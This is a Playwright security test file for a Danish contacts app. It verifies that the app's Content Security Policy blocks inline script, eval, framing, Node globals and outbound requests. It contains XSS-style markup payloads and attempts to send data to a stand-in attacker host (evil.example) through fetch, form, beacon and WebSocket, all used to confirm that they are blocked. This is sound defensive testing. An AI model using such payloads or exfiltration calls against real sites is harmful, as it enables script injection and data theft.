import { expect, test } from './fixtures';

test('the page runs under a CSP that blocks inline script and eval, with no Node globals', async ({ page, kredsbog }) => {
  const violations: string[] = [];
  page.on('console', (message) => {
    if (/Content Security Policy/i.test(message.text())) violations.push(message.text());
  });
  const response = await page.goto(kredsbog.url);
  expect(response?.headers()['content-security-policy']).toContain("script-src 'self'");
  await expect(page.getByRole('heading', { name: 'Goddag' })).toBeVisible();

  const result = await page.evaluate(() => {
    const w = window as unknown as Record<string, unknown>;
    const script = document.createElement('script');
    script.textContent = 'window.__inlineRan = true;';
    document.body.appendChild(script);
    return { inlineRan: w.__inlineRan === true, require: typeof w.require, process: typeof w.process };
  });
  expect(result).toEqual({ inlineRan: false, require: 'undefined', process: 'undefined' });
  // String evaluation from the page's own script context (a string timer is eval-class):
  // DevTools' evaluate itself is exempt from CSP, so the check goes through the page's
  // securitypolicyviolation event instead.
  const evalViolation = await page.evaluate(
    () =>
      new Promise<string>((resolve) => {
        document.addEventListener('securitypolicyviolation', (event) => resolve(`${event.violatedDirective} ${event.blockedURI}`), { once: true });
        (window.setTimeout as unknown as (code: string) => void)('window.__evalRan = true');
        window.setTimeout(() => resolve('no violation'), 1000);
      }),
  );
  expect(evalViolation).toMatch(/script-src.* eval/);
  expect(await page.evaluate(() => (window as unknown as Record<string, unknown>).__evalRan)).toBeUndefined();
  expect(violations.length).toBeGreaterThan(0);
});

test('the API refuses a page without the token', async ({ page, kredsbog }) => {
  const origin = new URL(kredsbog.url).origin;
  await page.goto(`${origin}/`);
  const status = await page.evaluate(async () => (await fetch('/api/contacts.list', { method: 'POST', body: '{"input":{}}' })).status);
  expect(status).toBe(403);
});

// ---------- The CSP is effective, not just present ----------
// What the browser host really enforces is the CSP (the same header main/protocol.ts sends
// for app://). window.open, leaving the app by navigation, permissions and DevTools are
// Electron-only guards (main/window.ts): see e2e/electron/security.electron.spec.ts.

test('serves every document and asset with the same CSP and nosniff, and the meta copy says the same', async ({ page, kredsbog }) => {
  const origin = new URL(kredsbog.url).origin;
  const served: { url: string; csp: string | undefined; nosniff: string | undefined }[] = [];
  page.on('response', (response) => {
    const url = new URL(response.url());
    if (url.origin === origin && !url.pathname.startsWith('/api/')) served.push({ url: url.pathname, csp: response.headers()['content-security-policy'], nosniff: response.headers()['x-content-type-options'] });
  });
  await page.goto(kredsbog.url);
  await expect(page.getByRole('heading', { name: 'Goddag' })).toBeVisible();
  await page.goto(`${origin}/kontakter`);
  await expect(page.locator('h1').first()).toBeVisible();
  expect(served.length).toBeGreaterThan(2);
  const policies = new Set(served.map((s) => s.csp));
  expect(policies.size, JSON.stringify(served)).toBe(1);
  expect([...policies][0]).toMatch(/script-src 'self'(;|$)/);
  expect(served.every((s) => s.nosniff === 'nosniff')).toBe(true);
  // The meta copy (vite.config.ts) protects the page opened without the header; it must say the same,
  // minus frame-ancestors (ignored in meta), and come before any script.
  const meta = await page.evaluate(() => {
    const tags = Array.from(document.querySelectorAll('meta[http-equiv="Content-Security-Policy" i]'));
    const first = document.head.querySelector('script, meta[http-equiv="Content-Security-Policy" i]');
    return { contents: tags.map((tag) => tag.getAttribute('content')), firstIsMeta: first?.tagName === 'META' };
  });
  const headerWithoutAncestors = [...policies][0]!
    .split('; ')
    .filter((d) => !d.startsWith('frame-ancestors'))
    .join('; ');
  expect(meta).toEqual({ contents: [headerWithoutAncestors], firstIsMeta: true });
});

test('refuses eval and new Function from the page’s own code and reports each violation', async ({ page, kredsbog }) => {
  await page.goto(kredsbog.url);
  await expect(page.getByRole('heading', { name: 'Goddag' })).toBeVisible();
  // Run from timers: the page's context, not DevTools' evaluate (which CSP exempts).
  const outcome = await page.evaluate(
    () =>
      new Promise<{ eval: string; fn: string; fnCtor: string; violations: string[] }>((resolve) => {
        const violations: string[] = [];
        document.addEventListener('securitypolicyviolation', (event) => violations.push(`${event.effectiveDirective} ${event.blockedURI}`));
        const attempt = (run: () => unknown) => {
          try {
            run();
            return 'ran';
          } catch (error) {
            return error instanceof Error ? error.name : String(error);
          }
        };
        window.setTimeout(() => {
          const result = {
            eval: attempt(() => window.eval('1 + 1')),
            fn: attempt(() => new Function('return 1')()),
            fnCtor: attempt(() => (Object.getPrototypeOf(async () => undefined) as { constructor: FunctionConstructor }).constructor('return 1')),
          };
          window.setTimeout(() => resolve({ ...result, violations }), 200);
        }, 0);
      }),
  );
  expect(outcome).toMatchObject({ eval: 'EvalError', fn: 'EvalError', fnCtor: 'EvalError' });
  expect(outcome.violations.filter((v) => v.startsWith('script-src') && v.endsWith(' eval')).length).toBeGreaterThanOrEqual(3);
});

test('runs no injected inline script, event handler or javascript: URL', async ({ page, kredsbog }) => {
  await page.goto(kredsbog.url);
  await expect(page.getByRole('heading', { name: 'Goddag' })).toBeVisible();
  const ran = await page.evaluate(async () => {
    const w = window as unknown as Record<string, unknown>;
    const host = document.createElement('div');
    // The way an XSS payload would arrive: as markup.
    host.innerHTML = '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload="window.__onload = true"><svg><script>window.__svg = true</script></svg><a id="js" href="javascript:window.__js = true">x</a>';
    document.body.appendChild(host);
    const script = document.createElement('script');
    script.text = 'window.__inline = true';
    document.head.appendChild(script);
    (host.querySelector('#js') as HTMLAnchorElement).click();
    await new Promise((resolve) => window.setTimeout(resolve, 300));
    return ['__onload', '__svg', '__js', '__inline'].filter((name) => w[name] !== undefined);
  });
  expect(ran).toEqual([]);
});

test('loads and sends nothing to another origin: script, image, style, fetch, frame, form and beacon are blocked', async ({ page, kredsbog }) => {
  // Anything that got past the CSP would reach the network layer, here a route that records it.
  const foreign: string[] = [];
  await page.route(/^https?:\/\/evil\.example\//, async (route) => {
    foreign.push(route.request().url());
    await route.fulfill({ status: 200, body: '' });
  });
  const blocked: string[] = [];
  page.on('requestfailed', (request) => {
    if (new URL(request.url()).hostname === 'evil.example') blocked.push(request.failure()?.errorText ?? '');
  });
  await page.goto(kredsbog.url);
  await expect(page.getByRole('heading', { name: 'Goddag' })).toBeVisible();
  const directives = await page.evaluate(async () => {
    const seen = new Set<string>();
    document.addEventListener('securitypolicyviolation', (event) => seen.add(event.effectiveDirective));
    const evil = 'https://evil.example';
    const add = <K extends keyof HTMLElementTagNameMap>(tag: K, setup: (el: HTMLElementTagNameMap[K]) => void) => {
      const el = document.createElement(tag);
      setup(el);
      document.body.appendChild(el);
      return el;
    };
    add('script', (s) => (s.src = `${evil}/x.js`));
    add('img', (i) => (i.src = `${evil}/pixel.gif`));
    add('link', (l) => {
      l.rel = 'stylesheet';
      l.href = `${evil}/x.css`;
    });
    add('iframe', (f) => (f.src = `${evil}/`));
    add('object', (o) => (o.data = `${evil}/x.swf`));
    const form = add('form', (f) => {
      f.action = `${evil}/steal`;
      f.method = 'post';
    });
    const fetched = await fetch(`${evil}/data`, { method: 'POST', body: 'kontakter' }).then(
      () => 'sent',
      () => 'blocked',
    );
    // sendBeacon reports "queued" either way; that nothing left is checked on the wire below.
    navigator.sendBeacon(`${evil}/beacon`, 'kontakter');
    // Chromium refuses a blocked WebSocket asynchronously (error event), older engines by throwing.
    const socket = await new Promise<string>((resolve) => {
      try {
        const ws = new WebSocket('wss://evil.example/');
        ws.onopen = () => resolve('opened');
        ws.onerror = () => resolve('refused');
      } catch {
        resolve('refused');
      }
    });
    form.requestSubmit();
    await new Promise((resolve) => window.setTimeout(resolve, 500));
    return { directives: [...seen].sort(), fetched, socket };
  });
  expect(directives.fetched).toBe('blocked');
  expect(directives.socket).toBe('refused');
  expect(directives.directives).toEqual(expect.arrayContaining(['connect-src', 'form-action', 'frame-src', 'img-src', 'object-src', 'script-src-elem', 'style-src-elem']));
  expect(foreign).toEqual([]);
  expect(blocked.length).toBeGreaterThan(0);
  // Still the app, not a page of the other origin.
  expect(new URL(page.url()).origin).toBe(new URL(kredsbog.url).origin);
});

test('cannot be framed by another origin (frame-ancestors)', async ({ page, kredsbog }) => {
  // localhost and 127.0.0.1 are different origins served by the same host.
  const framed = new URL(kredsbog.url);
  framed.hostname = 'localhost';
  await page.goto('about:blank');
  await page.setContent(`<iframe id="app" src="${framed.href}" width="800" height="600"></iframe>`, { waitUntil: 'load' });
  const frame = page.frames().find((f) => f !== page.mainFrame());
  expect(frame).toBeDefined();
  await frame!.waitForLoadState();
  // Chromium replaces a refused frame with its own error page.
  expect(frame!.url()).toMatch(/^chrome-error:/);
  expect(await frame!.getByText('Goddag').count()).toBe(0);
});

test('exposes no Node or Electron globals to the page', async ({ page, kredsbog }) => {
  await page.goto(kredsbog.url);
  await expect(page.getByRole('heading', { name: 'Goddag' })).toBeVisible();
  const globals = await page.evaluate(() => {
    const w = window as unknown as Record<string, unknown>;
    return Object.fromEntries(['require', 'process', 'module', 'exports', 'global', 'Buffer', '__dirname', '__filename', 'ipcRenderer', 'electron', 'nodeRequire', 'setImmediate'].map((name) => [name, typeof w[name]]));
  });
  expect(Object.entries(globals).filter(([, type]) => type !== 'undefined')).toEqual([]);
});

test('renders no link that leaves the app or opens a new window on its main pages', async ({ page, kredsbog }) => {
  const origin = new URL(kredsbog.url).origin;
  await page.goto(kredsbog.url);
  await expect(page.getByRole('heading', { name: 'Goddag' })).toBeVisible();
  for (const route of ['/', '/kommuner', '/organisationer', '/kontakter', '/moeder', '/kalender', '/moederaekker', '/opfoelgning', '/synkronisering', '/dubletter', '/indstillinger']) {
    await page.goto(`${origin}${route}`);
    await expect(page.locator('main, [role="main"]').first()).toBeVisible();
    await expect(page.locator('h1').first()).toBeVisible();
    const links = await page.locator('a[href], area[href], form[action]').evaluateAll((elements) =>
      elements.map((el) => ({ href: (el as HTMLAnchorElement).href || (el as HTMLFormElement).action, target: el.getAttribute('target') })),
    );
    const leaving = links.filter((l) => new URL(l.href).origin !== origin || (l.target !== null && l.target !== '_self'));
    expect(leaving, route).toEqual([]);
  }
});
